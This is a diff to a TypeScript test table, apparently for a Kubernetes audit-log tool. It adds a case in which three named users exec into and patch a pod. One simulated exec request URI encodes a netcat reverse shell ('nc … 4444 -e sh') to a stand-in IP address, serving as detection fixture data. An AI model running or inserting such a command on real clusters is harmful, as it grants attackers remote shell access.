@@ -46,6 +46,22 @@ export const sequenceTables: Tables = {
         { actor: shop },
       ],
       [
+        'three users at one pod, who are all named',
+        (world) => {
+          const session = (user: string, uri: string): void =>
+            world.request(user, { verb: 'get', of: 'pods/exec', in: 'shop', name: 'db', code: 101, stage: 'ResponseStarted', uri });
+          world.found(pod('shop/db', podSpec('db')));
+          world.usually(() => undefined);
+          session('eve', '/api/v1/namespaces/shop/pods/db/exec?command=ls');
+          session('mallory', '/api/v1/namespaces/shop/pods/db/exec?command=nc&command=203.0.113.9&command=4444&command=-e&command=sh');
+          world.write('trent', pod('shop/db', { ...podSpec('db'), ephemeralContainers: [{ name: 'd', image: 'busybox' }] }), {
+            verb: 'patch',
+            of: 'pods/ephemeralcontainers',
+          });
+        },
+        { actor: 'eve, mallory, trent' },
+      ],
+      [
         'changes and requests of one user',
         (world) => {
           takeover(world);
